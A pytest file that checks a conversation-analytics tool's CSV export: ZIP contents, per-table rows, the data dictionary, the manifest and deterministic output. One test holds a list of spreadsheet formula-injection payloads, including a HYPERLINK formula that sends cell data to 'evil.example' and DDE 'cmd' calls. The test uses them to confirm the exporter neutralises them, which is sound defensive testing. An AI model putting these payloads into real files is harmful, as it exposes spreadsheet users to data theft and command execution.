"""CSV export: a ZIP of tidy tables read back with the csv module."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import msgspec
import pytest

from convoscope_exporter.manifest import ExportManifest
from convoscope_exporter.render import render_export

EXPECTED_FILES = {
    "summary.csv",
    "messages.csv",
    "conversations.csv",
    "conversation_topics.csv",
    "topics.csv",
    "sentiment.csv",
    "failures.csv",
    "failure_types.csv",
    "quality.csv",
    "temporal.csv",
    "activity_heatmap.csv",
    "privacy.csv",
    "data_dictionary.csv",
    "manifest.json",
}


@pytest.fixture
def archive(results, corpus, manifest) -> zipfile.ZipFile:
    (out,) = render_export("csv", results, corpus, manifest=manifest)
    assert out.content_type == "application/zip"
    assert out.filename == "convoscope-job_abc.zip"
    return zipfile.ZipFile(io.BytesIO(out.data))


def _rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    text = archive.read(name).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_zip_holds_every_table(archive):
    assert EXPECTED_FILES <= set(archive.namelist())


def test_one_row_per_message(archive, corpus):
    rows = _rows(archive, "messages.csv")
    expected = [m.id for c in corpus.conversations for m in c.messages]
    assert [r["message_id"] for r in rows] == expected
    assert {r["role"] for r in rows} == {"user", "assistant"}


def test_message_text_is_complete_and_quoted(archive, sample):
    rows = {r["message_id"]: r for r in _rows(archive, "messages.csv")}
    assert rows["conv-email-m3"]["text"] == sample.LONG_TEXT
    assert rows["conv-py-m1"]["tool_errors"] == "1"
    assert rows["conv-py-m1"]["failures"] == "2"


def test_one_row_per_conversation(archive, results):
    rows = _rows(archive, "conversations.csv")
    assert len(rows) == results.summary.conversations
    by_id = {r["conversation_id"]: r for r in rows}
    assert by_id["conv-recipe"]["title"] == 'Recipe ideas, "quick" & cheap'
    assert by_id["conv-sql"]["primary_topic"] == "programming"
    assert by_id["conv-sql"]["failures"] == "2"
    assert by_id["conv-py"]["created_at"] == "2024-01-15T10:00:00+00:00"


def test_one_row_per_conversation_topic(archive, results):
    rows = _rows(archive, "conversation_topics.csv")
    expected = sum(len(a.topics) for a in results.topics.assignments)
    assert len(rows) == expected
    sql = [r for r in rows if r["conversation_id"] == "conv-sql"]
    assert [(r["topic_id"], r["rank"]) for r in sql] == [("programming", "1"), ("learned-0", "2")]


def test_one_row_per_failure(archive, results):
    rows = _rows(archive, "failures.csv")
    findings = results.quality.failures.findings
    assert [r["failure_id"] for r in rows] == [f.id for f in findings]
    assert [r["severity"] for r in rows] == [f.severity for f in findings]


def test_failure_types_are_one_row_per_type_and_severity(archive, results):
    rows = _rows(archive, "failure_types.csv")
    grid = results.quality.failures.by_type_and_severity
    assert {(r["type"], r["severity"]): int(r["failures"]) for r in rows} == {
        (t, s): n for t, by_sev in grid.items() for s, n in by_sev.items()
    }
    assert all("|" not in r["type"] for r in rows)


def test_heatmap_has_168_rows_matching_results(archive, results):
    rows = _rows(archive, "activity_heatmap.csv")
    assert len(rows) == 7 * 24
    wednesday = [int(r["messages"]) for r in rows if r["weekday"] == "Wednesday"]
    assert wednesday == results.temporal.heatmap[2]
    assert sum(int(r["messages"]) for r in rows) == results.summary.messages


def test_summary_values_equal_results(archive, results):
    rows = {r["metric"]: r["value"] for r in _rows(archive, "summary.csv")}
    assert int(rows["messages"]) == results.summary.messages
    assert int(rows["conversations"]) == results.summary.conversations
    assert int(rows["words"]) == results.summary.words
    assert int(rows["failures.total"]) == results.quality.failures.total


def test_data_dictionary_describes_every_column(archive):
    dictionary = _rows(archive, "data_dictionary.csv")
    described = {(r["table"], r["column"]) for r in dictionary}
    assert all(r["description"] for r in dictionary)
    for name in archive.namelist():
        if not name.endswith(".csv") or name == "data_dictionary.csv":
            continue
        header = next(csv.reader(io.StringIO(archive.read(name).decode("utf-8"))))
        table = name.removesuffix(".csv")
        assert {(table, column) for column in header} <= described, name


def test_manifest_json_is_the_manifest(archive, manifest):
    data = json.loads(archive.read("manifest.json"))
    assert data["export_id"] == "exp_42"
    assert data["job_id"] == "job_abc"
    assert data["file_hash"] == manifest.file_hash
    assert data["options"] == {"include_pii": False}
    assert data["engine_version"] == manifest.engine_version
    assert msgspec.json.decode(archive.read("manifest.json"), type=ExportManifest) == manifest


def test_csv_export_is_deterministic(results, corpus, manifest):
    first = render_export("csv", results, corpus, manifest=manifest)[0].data
    second = render_export("csv", results, corpus, manifest=manifest)[0].data
    assert first == second


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_that_would_run_as_formulas_are_neutralised(results, corpus, manifest):
    # OWASP's CSV-injection rule: a cell starting with = + - @ tab or CR gets a leading '.
    conv = corpus.conversations[0]
    conv.title = INJECTIONS[0]
    for message, text in zip(conv.messages, INJECTIONS[1:], strict=False):
        message.text = text
    (out,) = render_export("csv", results, corpus, manifest=manifest)
    archive = zipfile.ZipFile(io.BytesIO(out.data))
    titles = {r["conversation_id"]: r["title"] for r in _rows(archive, "conversations.csv")}
    assert titles[conv.id] == "'" + INJECTIONS[0]
    texts = {r["message_id"]: r["text"] for r in _rows(archive, "messages.csv")}
    written = [texts[m.id] for m in conv.messages[: len(INJECTIONS) - 1]]
    assert written == ["'" + t for t in INJECTIONS[1 : 1 + len(written)]]
    every_cell = [v for name in archive.namelist() if name.endswith(".csv")
                  for row in csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
                  for v in row]  # fmt: skip
    assert not [v for v in every_cell if v[:1] in ("=", "+", "@", "\t", "\r")]
    # Numbers stay numbers: a negative score is written as -0.5, not as text.
    scores = [r["compound"] for r in _rows(archive, "sentiment.csv")]
    assert any(s.startswith("-") and float(s) < 0 for s in scores)


def test_dictionary_comes_from_the_column_declarations(archive, results, corpus):
    # Headers, cells and the dictionary are read from one declaration per column.
    from convoscope_exporter.tables import build_tables

    dictionary = {(r["table"], r["column"]): r for r in _rows(archive, "data_dictionary.csv")}
    for table in build_tables(results, corpus):
        for column in table.columns:
            entry = dictionary[(table.name, column.name)]
            assert (entry["type"], entry["description"]) == (column.kind, column.description)
        assert all(len(row) == len(table.columns) for row in table.rows)
    # The summary's model counts are assistant messages (the engine's definition).
    models = [r for r in _rows(archive, "summary.csv") if r["metric"].startswith("models.")]
    assert models and all(
        r["description"].startswith("Assistant messages per model") for r in models
    )
